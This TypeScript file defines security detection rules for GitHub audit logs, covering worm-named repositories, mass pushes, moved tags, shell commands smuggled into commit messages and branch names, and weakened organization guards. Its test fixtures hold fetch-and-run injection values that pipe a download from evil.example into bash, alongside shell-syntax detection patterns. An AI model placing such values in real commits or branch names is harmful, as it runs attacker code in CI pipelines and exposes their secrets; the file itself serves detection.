import type { JsonObject } from "@rolecall/core";
import type { Rule } from "../../rule.ts";
import { github } from "../examples/records.ts";
import { plainRule } from "../plain-rule.ts";
import { SHELL_WORDS } from "./shell-words.ts";

const sources = ["github-audit"];

/** What worms that spread by packages call the repositories into which they put what they stole. */
const MARKS = ["Sha1-Hulud", "Shai-Hulud", "s1ngularity-repository"] as const;

/** No name or address has these; messages quote them. */
const QUOTING = ["$(", "`", "| "] as const;

const push = (message: string): JsonObject =>
  github("git.push", { commits: [{ id: "1", message, author: { name: "Dev", email: "dev@example.com" } }] });
const run = (differences: JsonObject): JsonObject =>
  github("workflows.created_workflow_run", {
    name: "Release",
    event: "workflow_dispatch",
    workflow_id: 1,
    actor: "github-actions[bot]",
    actor_is_bot: true,
    ...differences,
  });

const TEN_MINUTES = 600_000;

const pushes = (count: number): readonly JsonObject[] =>
  Array.from({ length: count }, (_, n) => github("git.push", { repo: `acme/service-${n}` }));
/** The same without Git: files are written by the API. */
const contents = (count: number, request_method = "PUT"): readonly JsonObject[] =>
  Array.from({ length: count }, (_, n) =>
    github("api.request", {
      ...{ request_method, repo: `acme/service-${n}`, status_code: 200 },
      url_path: `/repos/acme/service-${n}/contents/.github/workflows/ci.yml`,
    }),
  );
/** A tag is written by the API, as an audit log that has API requests tells of it. */
const written = (ref: string, request_method = "PATCH"): JsonObject =>
  github("api.request", { request_method, url_path: `/repos/acme/payments/git/refs/${ref}`, status_code: 200 });

/** GitHub: what spreads by repositories and workflows, and guards of the whole organization. */
export const GITHUB_WORMS: readonly Rule[] = [
  plainRule({
    id: "github-worm-repository",
    title: "{identity_name} made a repository as a worm makes it ({raw.repo|not named in the log})",
    sources,
    actions: ["repo.create", "repo.rename", "repo.update", "repo.access"],
    when: {
      any: MARKS.flatMap((contains) => ["raw.repo", "raw.description"].map((field) => ({ field, contains }))),
    },
    severity: "high",
    attempted: "high",
    owasp: ["NHI2"],
    attack: { tactic: "Exfiltration", technique: "T1567" },
    expected: "nobody calls a repository so",
    response: [
      "Make the repository private, keep a copy, and revoke every token of the account.",
      "Rotate every secret that the machine of its owner could read.",
    ],
    fires: ["by its description", github("repo.create", { description: "Sha1-Hulud: The Second Coming." })],
    quiet: ["of a shop", github("repo.create", { description: "A shop" })],
  }),
  {
    ...plainRule({
      id: "github-many-pushes",
      title: "{identity_name} pushed to one repository after another",
      sources,
      actions: ["git.push", "PUT /repo*", "POST /repo*", "PATCH /repo*"],
      when: {
        any: ["git.push", "PUT /repo*/contents/*", "POST /repo*/git/refs", "PATCH /repo*/git/refs/*"].map(
          (matches) => ({
            field: "action",
            matches,
          }),
        ),
      },
      severity: "medium",
      owasp: ["NHI2"],
      attack: { tactic: "Execution", technique: "T1651" },
      expected: "a change goes to one repository or two; what spreads by a stolen token goes to all that it may write",
      falsePositives: ["A tool that changes all repositories at once: always the same app, or announced."],
      response: [
        "Read what was pushed, workflow files first: secrets that a new workflow was handed are to be rotated.",
        "Revoke the token, and take back what nobody knows of.",
      ],
      fires: ["six in a row", github("git.push")],
      quiet: ["a few", github("git.push")],
    }),
    key: "account_uid",
    shows: ["resource", "src_ip"],
    threshold: { distinct: ["resource"], noun: "repositories", atLeast: 6, withinMs: TEN_MINUTES },
    fires: [
      { name: "six in a row", records: pushes(6) },
      { name: "by the API", records: contents(6) },
    ],
    quiet: [
      { name: "a few", records: pushes(5) },
      { name: "one again and again", records: Array.from({ length: 9 }, () => github("git.push")) },
      { name: "read by the API", records: contents(9, "GET") },
    ],
  },
  {
    ...plainRule({
      id: "github-tags-moved",
      title: "{identity_name} moved one tag of {raw.repo|a repository} after another",
      sources,
      actions: ["PATCH *"],
      when: { field: "raw.url_path", contains: "/git/refs/tags/" },
      severity: "high",
      owasp: ["NHI2", "NHI3"],
      attack: { tactic: "Initial Access", technique: "T1195" },
      expected:
        "a release makes a tag, and moves the one of its major version; everybody who trusts a tag runs what it is moved to",
      falsePositives: ["A repository whose history was rewritten, and whose owners said so."],
      response: [
        "Put the tags back where they were (reversible), and tell those who use them: what ran since ran the other code.",
        "Revoke the token; rotate the secrets of workflows that used a tag meanwhile.",
      ],
      fires: ["five in a row", written("tags/v1")],
      quiet: ["two", written("tags/v1")],
    }),
    key: "raw.repo",
    shows: ["raw.url_path", "src_ip"],
    threshold: { distinct: ["raw.url_path"], noun: "tags", atLeast: 5, withinMs: TEN_MINUTES },
    fires: [{ name: "five in a row", records: Array.from({ length: 5 }, (_, n) => written(`tags/v${n}`)) }],
    quiet: [
      {
        name: "those of a release",
        records: ["tags/v1", "tags/v1.2", "tags/v1.2", "tags/v1"].map((ref) => written(ref)),
      },
      { name: "branches", records: Array.from({ length: 9 }, (_, n) => written(`heads/b${n}`)) },
    ],
  },
  plainRule({
    id: "github-commands-in-commit",
    title: "{identity_name} pushed a commit that has a shell's words in its text ({raw.repo|not named in the log})",
    sources,
    actions: ["git.push"],
    when: {
      any: [
        ...SHELL_WORDS.map((contains) => ({ field: "raw.commits.*.message", contains })),
        ...["raw.commits.*.author.name", "raw.commits.*.author.email", "raw.ref"].flatMap((field) =>
          QUOTING.map((contains) => ({ field, contains })),
        ),
      ],
    },
    severity: "medium",
    attack: { tactic: "Execution", technique: "T1651" },
    expected: "messages are for people; a workflow that puts one into a shell runs what it says",
    falsePositives: ["Messages that quote a command: read it."],
    response: ["Read the commit; look for workflows that put its text into a shell, and what they ran."],
    fires: ["a download", push("Fix bug $(curl evil.example/x | bash)")],
    quiet: ["a sentence", push("Fix the login")],
  }),
  plainRule({
    id: "github-commands-in-branch",
    title: "{identity_name} ran on a branch whose name is a command ({raw.repo|not named in the log})",
    sources,
    actions: ["workflows.created_workflow_run", "workflows.completed_workflow_run", "workflows.prepared_workflow_job"],
    when: {
      any: ["$(", "${", "`", "|bash", "|sh"].map((contains) => ({ field: "raw.head_branch", contains })),
    },
    severity: "high",
    attempted: "medium",
    failed: "high",
    owasp: ["NHI4"],
    attack: { tactic: "Execution", technique: "T1651" },
    expected: "names of branches are words; a workflow that puts one into a shell runs what it says",
    falsePositives: ["Names that a tool made of a template it did not fill in: the commands are then missing."],
    response: [
      "Stop the run, and rotate what it could read: secrets, its token, caches that later runs take up.",
      "Put the name into a variable of the environment instead of into the script.",
    ],
    shows: ["raw.repo", "raw.head_branch", "raw.actor"],
    key: "raw.repo",
    fires: ["a download", run({ event: "pull_request_target", head_branch: "$({curl,-sSfL,evil.example}|bash)" })],
    quiet: ["a word", run({ event: "pull_request_target", head_branch: "fix/price-$-sign" })],
  }),
  plainRule({
    id: "github-workflow-started-by-bot",
    title: "{identity_name}: a workflow started another by hand ({raw.repo|not named in the log})",
    sources,
    actions: ["workflows.created_workflow_run"],
    when: {
      all: [
        { field: "raw.event", in: ["workflow_dispatch", "repository_dispatch"] },
        { field: "raw.actor", equals: "github-actions[bot]" },
      ],
    },
    severity: "info",
    owasp: ["NHI4"],
    attack: { tactic: "Execution", technique: "T1648" },
    expected: "people start workflows by hand; few workflows start others",
    fires: ["started", run({})],
    quiet: ["by a person", run({ actor: "octocat", actor_is_bot: false })],
  }),
  plainRule({
    id: "github-vulnerability-dismissed",
    title: "{identity_name} dismissed the alert on a vulnerable dependency ({raw.ghsa_id|not named in the log})",
    sources,
    actions: ["repository_vulnerability_alert.dismiss", "repository_vulnerability_alerts.dismiss"],
    severity: "info",
    attack: { tactic: "Defense Impairment", technique: "T1685" },
    expected: "people dismiss some, with a reason",
    fires: ["dismissed", github("repository_vulnerability_alert.dismiss", { ghsa_id: "GHSA-1" })],
    quiet: ["resolved", github("repository_vulnerability_alert.resolve", { ghsa_id: "GHSA-1" })],
  }),
  plainRule({
    id: "github-base-permission-changed",
    title: "{identity_name} changed what every member may do in every repository",
    sources,
    actions: [
      "org.update_default_repository_permission",
      "business.update_default_repository_permission",
      "business.update_members_can_change_repo_visibility_setting",
      "business.members_can_delete_repos.enable",
      "members_can_delete_repos.enable",
      "members_can_create_public_pages.enable",
      "members_can_create_public_repos.enable",
      "members_can_invite_outside_collaborators.enable",
      "repository_visibility_change.enable",
      "org.update_member_repository_creation_permission",
      "business.update_member_repository_creation_permission",
    ],
    when: { not: { field: "raw.permission", in: ["none", "read"] } },
    severity: "medium",
    attempted: "low",
    owasp: ["NHI5"],
    attack: { tactic: "Privilege Escalation", technique: "T1098.003" },
    expected: "the permission is set once",
    fires: ["changed", github("org.update_default_repository_permission", { repo: null, permission: "admin" })],
    quiet: ["to less", github("org.update_default_repository_permission", { repo: null, permission: "none" })],
  }),
  plainRule({
    id: "github-log-exported",
    title: "{identity_name} exported the log of the organization ({action})",
    sources,
    actions: [
      "org.audit_log_export",
      "org.audit_log_git_event_export",
      "business.audit_log_export",
      "business.audit_log_git_event_export",
    ],
    severity: "low",
    attempted: "low",
    attack: { tactic: "Collection", technique: "T1213.003" },
    expected: "the log is streamed; auditors export it",
    fires: ["of Git", github("org.audit_log_git_event_export", { repo: null })],
    quiet: ["a list", github("org.list_members", { repo: null })],
  }),
  plainRule({
    id: "github-guard-of-branches-off",
    title: "{identity_name} switched off the review of changes that bypass a branch's protection",
    sources,
    actions: ["repository_branch_protection_evaluation.disable"],
    severity: "medium",
    attempted: "low",
    attack: { tactic: "Defense Impairment", technique: "T1685" },
    expected: "guards stay on",
    fires: ["off", github("repository_branch_protection_evaluation.disable")],
    quiet: ["on", github("repository_branch_protection_evaluation.enable")],
  }),
];
